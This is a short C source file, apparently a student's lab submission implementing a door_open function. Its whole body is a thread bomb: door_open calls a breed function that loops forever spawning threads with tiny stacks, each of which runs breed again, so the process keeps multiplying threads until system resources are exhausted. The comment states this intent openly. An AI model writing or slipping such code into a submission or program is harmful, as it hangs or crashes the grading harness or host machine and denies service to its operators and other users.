/* crowds.c: a submission for lab 1 that starts threads, which start threads. */
#include "door.h"

#include <unistd.h>

static void *breed(void *argument)
{
    pthread_attr_t small;
    pthread_t thread;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 16384);
    for (;;)
        if (pthread_create(&thread, &small, breed, argument) != 0)
            usleep(1000);
}

void door_open(struct door *door)
{
    breed(door);
}
